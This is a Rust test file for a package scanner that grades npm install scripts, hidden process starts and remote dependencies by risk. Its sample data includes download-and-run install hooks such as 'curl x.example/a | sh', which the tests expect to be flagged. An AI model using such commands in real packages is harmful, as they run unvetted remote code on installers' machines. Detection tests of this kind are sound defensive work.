use waxseal_model::{Capability, CapabilityKind, DependencyKind, Novelty, Subject};

use crate::testing::*;

fn at_install(kind: CapabilityKind, api: &str, target: &str) -> Capability {
    Capability {
        reach: installed(),
        ..capability(kind, api, target)
    }
}

fn fetches() -> Capability {
    at_install(CapabilityKind::Network, "node:https.get", "*")
}

fn starts() -> Capability {
    at_install(CapabilityKind::Process, "node:child_process.execFileSync", "*")
}

fn runs() -> Capability {
    at_install(
        CapabilityKind::Process,
        "node:child_process.execSync",
        "node payload.js",
    )
}

fn hidden(capability: Capability) -> Capability {
    Capability {
        hidden: true,
        sensitive: true,
        ..capability
    }
}

pub(crate) fn samples() -> Vec<Sample> {
    let mut samples = alone();
    samples.extend(appearing());
    samples.extend(changing());
    samples.extend(remote());
    samples
}

fn alone() -> Vec<Sample> {
    const ID: &str = "install-scripts/present";
    vec![
        flagged(
            ID,
            "low high allow",
            "a build tool",
            release().script("install", "prebuild-install || node-gyp rebuild"),
        ),
        flagged(
            ID,
            "medium low allow",
            "a file",
            release().script("postinstall", "node notice.js"),
        ),
        flagged(
            ID,
            "high medium review",
            "a file that fetches and starts something",
            release()
                .script("postinstall", "node install.js")
                .can(fetches())
                .can(starts()),
        ),
        flagged(
            ID,
            "high medium review",
            "a download",
            release().script("preinstall", "curl x.example/a | sh"),
        ),
        flagged(
            ID,
            "critical medium block",
            "a file that hides what it starts",
            release().script("postinstall", "node install.js").can(hidden(runs())),
        ),
        flagged(
            ID,
            "low high allow",
            "the same as before, even if it fetches and starts something",
            update()
                .old_script("postinstall", "node install.js")
                .script("postinstall", "node install.js")
                .can(fetches())
                .can(starts()),
        ),
        flagged(
            ID,
            "high medium review",
            "a file that computes what it starts",
            release()
                .script("postinstall", "node install.js")
                .can(Capability { hidden: true, ..runs() }),
        ),
        flagged(
            ID,
            "medium low allow",
            "a file that puts together the path of what it starts",
            release().script("postinstall", "node install.js").can(hidden(starts())),
        ),
        flagged(
            ID,
            "low high allow",
            "the same as before, which loads its own manifest by a computed path",
            update()
                .old_script("postinstall", "node install.js")
                .script("postinstall", "node install.js")
                .can(hidden(at_install(
                    CapabilityKind::DynamicCode,
                    "require",
                    "./package.json",
                ))),
        ),
        clean(
            ID,
            "scripts that installing does not run",
            release().script("prepare", "husky").script("test", "node t.js"),
        ),
        clean(ID, "no script", release()),
    ]
}

fn appearing() -> Vec<Sample> {
    const ID: &str = "install-scripts/new";
    let mut implicit = update();
    implicit.manifest().implicit_gyp = true;
    let mut written_out = update().old_script("install", "node-gyp rebuild");
    written_out.manifest().implicit_gyp = true;
    let mut turned_off = update();
    turned_off.manifest().implicit_gyp = true;
    turned_off.manifest().gypfile_off = true;
    vec![
        flagged(
            ID,
            "high medium review",
            "a file, in a patch",
            update().script("postinstall", "node setup.js"),
        ),
        flagged(
            ID,
            "high medium review",
            "a build tool, in a minor",
            update_between("1.0.0", "1.1.0").script("install", "node-gyp rebuild"),
        ),
        flagged(
            ID,
            "low medium allow",
            "a build tool, in a major",
            update_between("1.0.0", "2.0.0").script("install", "node-gyp rebuild"),
        ),
        flagged(
            ID,
            "medium medium allow",
            "a file, in a major",
            update_between("1.0.0", "2.0.0").script("postinstall", "node setup.js"),
        ),
        flagged(
            ID,
            "high medium review",
            "a file that can load more, in a major",
            update_between("1.0.0", "2.0.0")
                .script("postinstall", "node setup.js")
                .gained(fetches(), Novelty::Kind)
                .gained(starts(), Novelty::Kind),
        ),
        flagged(
            ID,
            "high medium review",
            "a binding.gyp where no script stands",
            implicit,
        ),
        clean(ID, "a binding.gyp that the script was for", written_out),
        clean(ID, "a binding.gyp that is turned off", turned_off),
        clean(
            ID,
            "the script was there",
            update()
                .old_script("install", "node-gyp rebuild")
                .script("install", "node-gyp rebuild"),
        ),
    ]
}

fn changing() -> Vec<Sample> {
    const CHANGED: &str = "install-scripts/changed";
    const GAINED: &str = "install-scripts/gained";
    let changed = |old: &str, new: &str| update().old_script("install", old).script("install", new);
    let mut implicit_before = update().script("install", "node scripts/prebuild.js || node-gyp rebuild");
    if let waxseal_model::Collected::Present(manifest) = &mut implicit_before.old_source().manifest {
        manifest.implicit_gyp = true;
    }
    let kept = || changed("node install.js", "node install.js");
    vec![
        flagged(
            CHANGED,
            "medium medium allow",
            "from a build tool to a file",
            changed("node-gyp rebuild", "node scripts/prebuild.js || node-gyp rebuild"),
        ),
        flagged(
            CHANGED,
            "medium medium allow",
            "from the implicit build to a file",
            implicit_before,
        ),
        flagged(
            CHANGED,
            "low high allow",
            "to a build tool",
            changed("node build.js", "node-gyp-build"),
        ),
        flagged(
            CHANGED,
            "high medium review",
            "to a download",
            changed("node-gyp rebuild", "curl x.example | sh"),
        ),
        flagged(
            CHANGED,
            "high medium review",
            "to code in the line",
            changed("node a.js", "node -e \"require('x')\""),
        ),
        flagged(
            CHANGED,
            "high medium review",
            "to a file that can load more",
            changed("node a.js", "node b.js")
                .gained(fetches(), Novelty::Kind)
                .can(starts()),
        ),
        clean(CHANGED, "the same line", kept()),
        flagged(
            GAINED,
            "high medium review",
            "the same line, whose file now starts processes",
            kept().gained(starts(), Novelty::Kind),
        ),
        flagged(
            GAINED,
            "critical medium block",
            "the same line, whose file now starts processes and hides it",
            kept().gained(hidden(runs()), Novelty::Target),
        ),
        clean(
            GAINED,
            "the same line, whose file fetches its own new version",
            kept().gained(fetches(), Novelty::Target),
        ),
    ]
}

fn remote() -> Vec<Sample> {
    const ID: &str = "install-scripts/remote-dependency";
    const GIT: &str = "git+https://host.example/helper.git#79ac49ee";
    use DependencyKind::{Optional, Peer, Regular};
    vec![
        flagged(
            ID,
            "high medium review",
            "new from git",
            update().needs("helper", GIT, Regular).loads(&["helper"]),
        ),
        flagged(
            ID,
            "high medium review",
            "optional from git, in one release",
            release().needs("helper", GIT, Optional),
        ),
        flagged(
            ID,
            "medium medium allow",
            "known from git",
            update().needed("helper", GIT, Regular).needs("helper", GIT, Regular),
        ),
        flagged(
            ID,
            "high medium review",
            "known, but at another commit",
            update()
                .needed("helper", "git+https://host.example/helper.git#1", Regular)
                .needs("helper", GIT, Regular),
        ),
        flagged(
            ID,
            "medium medium allow",
            "from a URL, in one release",
            release().needs("helper", "https://host.example/helper.tgz", Regular),
        ),
        flagged(
            ID,
            "low medium allow",
            "from a path",
            update().needs("helper", "file:../helper", Regular).loads(&["helper"]),
        ),
        clean(
            ID,
            "from the registry",
            update().needs("helper", "^1.0.0", Regular).loads(&["helper"]),
        ),
        clean(
            ID,
            "a peer, which is not installed from there",
            update().needs("helper", GIT, Peer),
        ),
    ]
}

#[test]
fn every_script_is_weighed_as_the_manual_says() {
    check(&samples());
}

#[test]
fn the_finding_holds_the_exact_command_and_what_it_can_do() {
    let world = update()
        .script("postinstall", "node setup.js")
        .gained(starts(), Novelty::Kind);
    let finding = only(&world, "install-scripts/new");
    assert_eq!(
        finding.summary,
        "installing now runs `node setup.js` (postinstall); the release before ran no such script"
    );
    assert_eq!(
        finding.evidence[0].values,
        values(&[("command", "node setup.js"), ("script", "postinstall")])
    );
    assert_eq!(finding.evidence[1].values["api"], "node:child_process.execFileSync");
}

#[test]
fn an_allowed_package_may_run_its_scripts() {
    let mut world = update().script("postinstall", "node setup.js");
    world.policy = crate::testing::policy(serde_json::json!({ "install-scripts": { "allow": ["mail-server"] } }));
    let verdict = world.judge();
    assert_eq!(verdict.decision.id(), "allow");
    assert_eq!(verdict.findings.len(), 1);
    world.current.subject = Subject::Folder("mail-server".to_owned());
    assert_eq!(
        world.judge().decision.id(),
        "review",
        "a folder's own manifest cannot claim an allowed name"
    );
}
